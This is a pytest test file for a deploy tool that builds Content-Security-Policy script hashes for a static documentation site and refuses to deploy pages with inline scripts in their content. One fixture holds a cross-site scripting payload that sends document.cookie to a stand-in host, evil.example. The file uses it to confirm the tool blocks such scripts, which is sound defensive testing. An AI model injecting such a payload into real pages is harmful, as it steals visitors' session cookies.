"""The CSP helper: inline-script hashes from built pages, and the template kept in step."""

from __future__ import annotations

import base64
import hashlib
import shutil
from pathlib import Path

import pytest

from deploy import DeployError
from deploy.cli import check_csp
from deploy.csp import (
    CSP_MAX_LENGTH,
    content_scripts,
    inline_code,
    main,
    missing_hashes,
    script_hash,
    script_sources,
    site_event_handlers,
    site_script_hashes,
    stale_hashes,
    with_script_hashes,
)
from deploy.template import TEMPLATE_PATH, content_security_policy, load_template

PAGE = """<!doctype html><html><head>
<script>__md_scope=new URL(".",location)</script>
<script id="__config" type="application/json">{"base": "."}</script>
<script src="assets/javascripts/bundle.a5f9d56c.min.js"></script>
<script type="module">import "./x.js"</script>
</head><body><a href="javascript:void(0)" class="share">share</a></body></html>"""


def b64sha256(text: str) -> str:
    return base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


def test_script_hash_is_the_csp_source_expression() -> None:
    """The hash is base64 sha256 of the exact script text, quoted as CSP expects."""
    assert script_hash("") == "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
    assert script_hash("alert(1)") == f"'sha256-{b64sha256('alert(1)')}'"


def test_only_executable_inline_scripts_are_collected() -> None:
    """Classic and module inline scripts count; JSON data blocks and src= scripts do not."""
    scripts, handlers = inline_code(PAGE)
    assert scripts == ['__md_scope=new URL(".",location)', 'import "./x.js"']
    # Material's share link is a no-op javascript: URL; it needs no allowance.
    assert handlers == []


def test_script_text_is_hashed_verbatim() -> None:
    """Whitespace and entities inside a script are part of its hash, as in the browser."""
    scripts, _ = inline_code("<script>\n  var a = '&amp;' < 2;\n</script>")
    assert scripts == ["\n  var a = '&amp;' < 2;\n"]


def test_inline_event_handlers_are_reported() -> None:
    """onclick= attributes and javascript: URLs that run code cannot be hash-allowed: reported."""
    _, handlers = inline_code(
        '<button onclick="go()">x</button><a href="javascript:alert(1)">y</a>'
    )
    assert handlers == ["<button onclick=...>", "<a href=javascript:alert(1)>"]


def test_site_hashes_map_each_hash_to_its_pages(tmp_path: Path) -> None:
    """Hashes are gathered over every page of a site, nested pages included."""
    (tmp_path / "guide").mkdir()
    (tmp_path / "index.html").write_text("<script>a()</script>")
    (tmp_path / "guide" / "page.html").write_text("<script>a()</script><script>b()</script>")
    (tmp_path / "guide" / "bad.html").write_text('<img src="x.png" onerror="b()">')
    assert site_script_hashes(tmp_path) == {
        script_hash("a()"): ["guide/page.html", "index.html"],
        script_hash("b()"): ["guide/page.html"],
    }
    assert site_event_handlers(tmp_path) == {"guide/bad.html": ["<img onerror=...>"]}


def test_missing_and_stale_hashes() -> None:
    """A policy misses hashes it does not list, and lists stale ones no page needs."""
    policy = "default-src 'none'; script-src 'self' 'sha256-AAA=' 'sha256-BBB='; style-src 'self'"
    assert missing_hashes(policy, ["'sha256-AAA='", "'sha256-CCC='"]) == ["'sha256-CCC='"]
    assert stale_hashes(policy, ["'sha256-AAA='"]) == ["'sha256-BBB='"]
    # script-src-elem, when present, is what governs <script> elements.
    assert script_sources("script-src 'self'; script-src-elem 'self' 'sha256-E='") == [
        "'self'",
        "'sha256-E='",
    ]


def test_with_script_hashes_rewrites_only_script_src() -> None:
    """Updating the template replaces the script-src directive and leaves every other line alone."""
    text = TEMPLATE_PATH.read_text(encoding="utf-8")
    updated = with_script_hashes(text, ["'sha256-ZZZ='", "'sha256-AAA='"])
    old_lines, new_lines = text.splitlines(), updated.splitlines()
    changed = [(a, b) for a, b in zip(old_lines, new_lines, strict=True) if a != b]
    assert len(changed) == 1
    assert changed[0][1].strip() == "script-src 'self' 'sha256-AAA=' 'sha256-ZZZ=';"


def test_update_then_check_round_trip(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--check fails on a site with an unlisted inline script, --update fixes the template."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<script>window.x=1</script>")
    template = tmp_path / "template.yaml"
    shutil.copy(TEMPLATE_PATH, template)

    assert main([str(site), "--template", str(template), "--check"]) == 1
    assert "misses 1 inline script hashes" in capsys.readouterr().err
    assert main([str(site), "--template", str(template), "--update"]) == 0
    policy = content_security_policy(load_template(template))
    assert script_sources(policy) == ["'self'", script_hash("window.x=1")]
    assert main([str(site), "--template", str(template), "--check"]) == 0
    assert "allows all 1 inline scripts" in capsys.readouterr().out


def test_unbuilt_site_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The helper needs a built site (index.html) to say anything."""
    assert main([str(tmp_path)]) == 2
    assert "has no index.html" in capsys.readouterr().err


def test_template_csp_fits_cloudfront_quota() -> None:
    """CloudFront rejects a Content-Security-Policy longer than 1,783 characters."""
    assert len(content_security_policy(load_template())) <= CSP_MAX_LENGTH


@pytest.mark.slow
def test_template_csp_allows_every_inline_script_of_the_real_site(built_site: Path) -> None:
    """Every inline script of the real built site is in the template's script-src (drift check)."""
    hashes = site_script_hashes(built_site)
    assert hashes, "Material always writes inline scripts; finding none means the scan is broken"
    policy = content_security_policy(load_template())
    missing = missing_hashes(policy, hashes)
    assert missing == [], (
        f"run `python -m deploy.csp <site> --update`: {len(missing)} inline scripts are not "
        f"allowed, e.g. in {hashes[missing[0]][0] if missing else ''}"
    )
    assert site_event_handlers(built_site) == {}


@pytest.mark.slow
def test_template_csp_lists_no_stale_hashes(built_site: Path) -> None:
    """The template allows no inline script the real site no longer has (keeps the CSP tight)."""
    policy = content_security_policy(load_template())
    assert stale_hashes(policy, site_script_hashes(built_site)) == []


NOTES_PAGE = """<!doctype html><html><head>
<script>__md_scope=new URL(".",location)</script></head><body>
<article class="md-content__inner md-typeset"><h1>S3</h1>
<p>text</p><script>fetch("//evil.example/?"+document.cookie)</script></article>
</body></html>"""


def test_a_script_in_a_page_content_is_never_hashed(tmp_path: Path) -> None:
    """An inline script inside the page's content (from the notes) is found, not hashed."""
    (tmp_path / "index.html").write_text(NOTES_PAGE)
    assert site_script_hashes(tmp_path) == {
        script_hash('__md_scope=new URL(".",location)'): ["index.html"]
    }
    assert content_scripts(tmp_path) == {
        "index.html": ['fetch("//evil.example/?"+document.cookie)']
    }


@pytest.mark.parametrize("action", ["--update", "--check", None])
def test_the_csp_tool_refuses_a_site_with_a_notes_born_script(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], action: str | None
) -> None:
    """--update never adds a notes-born script's hash: it is an error, and the template stays."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text(NOTES_PAGE)
    template = tmp_path / "template.yaml"
    shutil.copy(TEMPLATE_PATH, template)
    assert main([str(site), "--template", str(template), *([action] if action else [])]) == 1
    assert "carry an inline script in their content" in capsys.readouterr().err
    assert template.read_text() == TEMPLATE_PATH.read_text()


def test_deploy_refuses_to_publish_a_notes_born_script(tmp_path: Path) -> None:
    """`make deploy` checks the same: a script in a page's content stops it before AWS."""
    (tmp_path / "index.html").write_text(NOTES_PAGE)
    with pytest.raises(DeployError, match=r"1 pages \(e\.g\. index\.html\) carry an inline script"):
        check_csp(tmp_path, TEMPLATE_PATH)
